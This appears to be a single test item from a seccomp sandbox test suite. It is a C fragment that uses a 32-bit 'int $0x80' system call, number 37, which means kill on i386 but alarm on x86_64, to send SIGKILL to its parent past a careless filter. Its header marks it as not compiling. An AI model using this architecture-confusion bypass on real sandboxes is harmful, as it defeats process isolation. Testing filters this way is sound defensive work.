/* attack: kills its parent by the 32-bit system call, whose number means something else to a careless filter
 * place: 1.5
 * state: not compiling
 * needs: seccomp
 */
    extern int getppid(void), puts(const char *);
#if defined(__x86_64__) && defined(__linux__)
    int result = 37, parent = getppid(); /* kill there, alarm here */
    if (parent > 1) {
        __asm__ volatile("int $0x80" : "+a"(result) : "b"(parent), "c"(9) : "memory", "r8", "r9", "r10", "r11");
        if (result == 0)
            puts("got through: the parent was killed by a 32-bit call");
    }
#endif
    return 0.0;
